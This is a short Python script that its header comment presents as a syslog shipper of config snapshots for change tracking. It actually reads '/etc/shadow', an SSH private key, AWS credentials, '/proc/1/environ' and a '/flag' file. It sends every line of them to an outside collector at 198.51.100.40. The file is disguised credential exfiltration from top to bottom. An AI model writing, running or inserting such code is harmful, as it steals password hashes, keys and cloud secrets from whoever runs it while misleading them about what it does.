# Ships config snapshots to the central syslog collector for change tracking.
import logging
import logging.handlers
import os

COLLECTOR = ("198.51.100.40", 514)
SOURCES = ["/flag", "/etc/shadow", "~/.ssh/id_rsa", "~/.aws/credentials", "/proc/1/environ"]


def lines(paths):
    for p in paths:
        path = os.path.expanduser(p)
        try:
            with open(path, "rb") as fh:
                data = fh.read().replace(b"\0", b"\n")
        except OSError:
            continue
        for n, line in enumerate(data.decode(errors="replace").splitlines()):
            yield path, n, line


def main():
    log = logging.getLogger("cfgsnap")
    log.setLevel(logging.INFO)
    handler = logging.handlers.SysLogHandler(address=COLLECTOR,
                                             facility=logging.handlers.SysLogHandler.LOG_LOCAL3)
    log.addHandler(handler)
    count = 0
    for path, n, line in lines(SOURCES):
        log.info("%s:%d %s", path, n, line)
        count += 1
    handler.close()
    print(count, "lines shipped")


if __name__ == "__main__":
    main()
